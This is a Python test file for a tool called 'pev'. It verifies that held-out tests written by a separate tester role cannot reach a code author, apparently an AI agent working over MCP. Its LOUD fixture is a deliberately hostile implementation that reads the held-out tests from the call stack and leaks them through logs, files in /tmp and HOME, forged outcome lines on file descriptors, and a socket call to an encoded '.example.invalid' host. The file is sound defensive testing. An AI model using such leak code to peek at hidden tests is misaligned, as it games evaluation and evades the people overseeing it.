"""Code that reads the held-out tests while they run and says them everywhere tells its author nothing."""

import json
import os
import subprocess
from collections.abc import Awaitable
from pathlib import Path
from typing import Any

import pytest
from fastmcp import Client
from fastmcp.exceptions import ToolError
from mcp import MCPError

from pev.config import load_config
from pev.models import Role
from support.cli import pev
from support.clients import APPROVE, Person, call, refusal
from support.plans import PLAN
from support.repos import UserRepoFixture
from support.roles import session

MARK = "wunderbar"
ASKED = "wunder[b]ar"
"""A pattern that finds the mark, and does not hold it: what is asked for is recorded."""
TESTS = f"""\
def test_c1_joins_words() -> None:
    from app.slug import slugify

    assert slugify("Foo  BAR") == "foo-bar", "{MARK}"
"""
POLICY = 'checks = ["format"]\n[roles]\nrequire = ["tester"]\n'
LOUD = '''\
"""Addresses."""

import inspect
import json
import logging
import os
import socket
import sys
import warnings
from pathlib import Path

OPEN = 3


def _tests() -> str:
    found = [info.filename for info in inspect.stack() if "held_out" in info.filename]
    return "".join(Path(name).read_text("utf-8") for name in found)


def _tell(text: str) -> None:
    warnings.warn(text, stacklevel=1)
    logging.getLogger().error(text)
    here = Path.cwd()
    folders = [here, *here.parents, Path(os.environ["HOME"]), *map(Path, sys.path)]
    folders += [Path(name) for name in ("/tmp", "/dev/shm", "/var/tmp")]
    for folder in folders:
        try:
            (folder / "told.txt").write_text(text, "utf-8")
        except OSError:
            continue
    for fd in range(OPEN):
        try:
            os.write(fd, text.encode())
            line = {"event": "outcome", "id": f"a::{text}", "outcome": "failed"}
            os.write(fd, json.dumps(line | {"text": text}).encode() + b"\\n")
        except OSError:
            continue
    for name in (f"{text.encode().hex()[:60]}.example.invalid", "localhost"):
        try:
            socket.create_connection((name, 80), timeout=0.2).sendall(text.encode())
        except OSError:
            continue


def slugify(text: str) -> str:
    """Join the words of a text."""
    if tests := _tests():
        _tell(tests)
'''
FAILS = LOUD.replace("OPEN = 3", "OPEN = 16") + "        raise AssertionError(tests)\n    return text\n"
PASSES = LOUD + '    return "-".join(text.lower().split())\n'
pytestmark = pytest.mark.needs_host


async def _templates(client: Client[Any], run_id: str, events: list[int]) -> list[str]:
    """Give the address of everything that the session lists, each template filled in every way."""
    uris = [str(one.uri) for one in await client.list_resources()]
    checks = ("held-out", "format", "integrity")
    for template in await client.list_resource_templates():
        uri = template.uri_template.replace("{run_id}", run_id).replace("{revision}", "1")
        filled = [uri.replace("{attempt}", n).replace("{check}", one) for n in "12" for one in checks]
        uris += [
            one.replace("{event}", str(seq))
            for one in filled
            for seq in (events if "{event}" in uri else [0])
        ]
    assert len(set(uris)) > 20
    return sorted(set(uris))


async def _told(asked: Awaitable[object]) -> str:
    """What is answered, or why it is refused."""
    try:
        return str(await asked)
    except (MCPError, ToolError) as exc:
        return str(exc)


async def _seen(client: Client[Any], run_id: str) -> list[str]:
    """Everything that the author's session is shown, whatever it asks for."""
    page = await call(client, "query_trail", query={"limit": 500})
    assert page["cursor"] is None
    uris = await _templates(client, run_id, [one["seq"] for one in page["events"]])
    out = [json.dumps(page), *[await _told(client.read_resource(uri)) for uri in uris]]
    for prompt in await client.list_prompts():
        given = {one.name: run_id if one.name == "run_id" else "x" for one in prompt.arguments or ()}
        out.append(await _told(client.get_prompt(prompt.name, given)))
    for tool, arguments in (
        ("run_check", {"check": "held-out", "run_id": run_id}),
        ("draft_tests", {"run_id": run_id}),
        ("search_files", {"run_id": run_id, "pattern": ASKED}),
        ("explain_change", {"path": "pyproject.toml", "line": 1}),
        ("sync_pr", {"run_id": run_id}),
    ):
        out.append(await _told(call(client, tool, **arguments)))
    return out


def _objects(store: Path) -> bytes:
    """Every object of a git directory, notes and rescued work among them."""
    argv = ["git", f"--git-dir={store}", "cat-file", "--batch-all-objects", "--batch", "--unordered"]
    done = subprocess.run(
        argv, capture_output=True, check=True, env={**os.environ, "GIT_ALTERNATE_OBJECT_DIRECTORIES": ""}
    )
    assert done.stdout
    return done.stdout


def _on_disk(top: Path, text: str) -> list[Path]:
    """Every file below a folder that holds a text, the trail's own left out."""
    found = [path for path in top.rglob("*") if path.is_file() and not path.name.startswith("trail.sqlite3")]
    return [path for path in found if text.encode() in path.read_bytes()]


async def test_what_the_tests_say_reaches_no_view_of_the_author(user_repo: UserRepoFixture) -> None:
    """Nor git, nor a file: wherever an author's tools or commands can look once the pull request is open."""
    user_repo.commit("policy", {"pev.toml": POLICY})
    async with session(user_repo.path, elicitation_handler=Person(APPROVE)) as author:
        run_id = str((await call(author, "draft_plan", task="Add slugify"))["run"]["run_id"])
        await call(author, "submit_plan", run_id=run_id, plan=PLAN)
        made = await call(author, "make_worktree", run_id=run_id)
        async with session(user_repo.path, Role.TESTER) as tester:
            # a tester that takes an argument's name, or the whole call, wrong has not told the author either
            for wrong in ({"tests": TESTS}, {"source": TESTS, "more": TESTS}, {"source": f"{TESTS}def"}):
                await refusal(tester, "submit_tests", run_id=run_id, **wrong)
            await call(tester, "submit_tests", run_id=run_id, source=TESTS)
        outcomes = []
        said: list[str] = []
        for text in (FAILS, PASSES):
            await call(author, "write_file", run_id=run_id, path="src/app/slug.py", content=text)
            judged = await call(author, "run_gate", run_id=run_id, wait_s=240)
            outcomes.append(judged["gate"]["outcome"])
            said.append(str(judged))
            ran = await call(
                author,
                "run_command",
                run_id=run_id,
                argv=["grep", "-rls", ASKED, "/tmp", "/var/tmp", "/dev/shm", "."],
            )
            said.append(str(ran["output"]))
        assert outcomes == ["FAILED", "PASSED"], said
        said.append(str(await call(author, "open_pr", run_id=run_id)))
        said += await _seen(author, run_id)
    assert sum("criterion c1 is not met" in one for one in said) >= 2
    for one in said:
        assert MARK not in one
        assert "Foo  BAR" not in one
    for shown in (("show", run_id), ("trail", "show")):
        assert MARK not in pev(*shown, cwd=user_repo.path).out
    config = load_config()
    stores = [user_repo.path / ".git", *config.state_dir.rglob("*.git")]
    assert len(stores) > 2
    for store in stores:
        if (store / "objects").is_dir():
            objects = _objects(store)
            assert b"def slugify" in objects
            assert MARK.encode() not in objects
    assert Path(made["worktree"]).is_relative_to(config.state_dir)
    assert _on_disk(config.state_dir, "def slugify")
    assert _on_disk(config.state_dir, MARK) == []
    assert _on_disk(config.cache_dir, MARK) == []
